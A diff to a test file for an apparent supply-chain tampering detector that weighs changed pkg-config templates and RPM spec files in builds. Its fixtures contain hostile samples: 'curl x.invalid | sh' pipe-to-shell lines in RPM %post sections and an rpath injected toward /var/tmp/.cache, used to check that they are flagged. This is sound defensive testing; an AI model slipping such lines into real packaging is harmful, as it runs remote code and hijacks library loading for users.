@@ -51,7 +51,10 @@ describe('file roles and their weight', () => {
     // a configure template is weighed as the file configure makes from it
     expect(fileRole('build/win32/config-win32.h.in', 0o644, '#define HAVE_STDIO_H 1\n')).toBe('code')
     expect(fileRole('src/version.c.in', 0o644, 'const char *v = "@VERSION@";\n')).toBe('code')
-    expect(fileRole('lib/demo.pc.in', 0o644, 'Name: demo\n')).toBe('data')
+    // what other builds read as instructions: pkg-config's flags, an RPM spec rpmbuild -ta runs
+    expect(fileRole('lib/demo.pc.in', 0o644, 'Name: demo\n')).toBe('build')
+    expect(fileRole('contrib/redhat/tool.spec', 0o644, 'Name: tool\n%build\nmake\n')).toBe('build')
+    expect(fileRole('tests/data/sample.pc', 0o644, 'Name: sample\n')).toBe('data')
     // content wins over the name: a "document" that is a shell script is build logic
     expect(fileRole('doc/notes.txt', 0o644, '#!/bin/sh\nrm -rf /nonexistent\n')).toBe('build')
   })
@@ -91,6 +94,18 @@ describe('file roles and their weight', () => {
     const c = 'int hook(void) { return 1; }\n'
     const code = await judgeUnexplained(added('src/hook.c', c), view({ 'src/hook.c': c }), new Map())
     expect(code?.findings?.[0]?.severity).toBe('high')
+  })
+
+  it('weighs a changed pkg-config template as build logic, and says whose builds read it', async () => {
+    const before = 'prefix=@prefix@\nlibdir=@libdir@\nName: demo\nLibs: -L${libdir} -ldemo\n'
+    const after = before.replace('Libs: ', 'Libs: -Wl,-rpath,/var/tmp/.cache ')
+    const j = await judgeUnexplained(changed('demo.pc.in', before, after), view({ 'demo.pc.in': after }, { 'demo.pc.in': before }), new Map())
+    expect(j?.findings?.[0]?.severity).toBe('high')
+    expect(j?.findings?.[0]?.message).toMatch(/pkg-config file .*every program that uses the library/)
+    const spec = 'Name: demo\n%post\n/sbin/ldconfig\n'
+    const added_ = await judgeUnexplained(added('packaging/demo.spec', spec), view({ 'packaging/demo.spec': spec }), new Map())
+    expect(added_?.findings?.[0]?.severity).toBe('high')
+    expect(added_?.findings?.[0]?.message).toMatch(/RPM spec/)
   })
 
   it('makes a document critical when the build runs it (a build has no reason to), and names the line', async () => {
@@ -442,6 +457,19 @@ describe('generated at release time', () => {
     expect(fillsTemplate(template, `${filled}%post\ncurl x.invalid | sh\n`)).toBe(false)
     const j = await templateExplainer().judge(added('foo.spec', filled), view({ 'foo.spec': filled }, { 'foo.spec.in': template }))
     expect(j?.outcome).toBe('explained')
+  })
+  it('explains an output configure names with its template, through a variable in the name, and only that', async () => {
+    const template = 'Summary: a pipe meter\nName: @PACKAGE@\nVersion: @VERSION@\n%files\n/usr/bin/@PACKAGE@\n'
+    const filled = 'Summary: a pipe meter\nName: meter\nVersion: 0.9\n%files\n/usr/bin/meter\n'
+    const configure = '#! /bin/sh\nPACKAGE=meter\nac_config_files="$ac_config_files Makefile doc/lsm:doc/lsm.in doc/${PACKAGE}.spec:doc/spec.in"\n'
+    const judge = (path: string, text: string, shipped = configure) => templateExplainer().judge(added(path, text), view({ [path]: text, configure: shipped }, { 'doc/spec.in': template }))
+    const j = await judge('doc/meter.spec', filled)
+    expect(j?.outcome).toBe('explained')
+    expect(j?.explained?.how).toMatch(/from doc\/spec\.in \(configure:3 names it/)
+    // a line the template does not hold, a name in another directory, a configure that names no such output
+    expect((await judge('doc/meter.spec', filled.replace('%files', '%post\ncurl -s x.invalid | sh\n%files')))?.outcome).not.toBe('explained')
+    expect((await judge('packaging/meter.spec', filled))?.outcome).not.toBe('explained')
+    expect((await judge('doc/meter.spec', filled, configure.replace(' doc/${PACKAGE}.spec:doc/spec.in', '')))?.outcome).not.toBe('explained')
   })
   it('explains a file a make rule copies from one configure writes, and a template that is not UTF-8, and nothing else so made', async () => {
     const makefileAm = 'gcalltx/gcalltx.pl:\n\tcp gcalltx/gcalltxp gcalltx/gcalltx.pl\n\tchmod u+x gcalltx/gcalltx.pl\n'
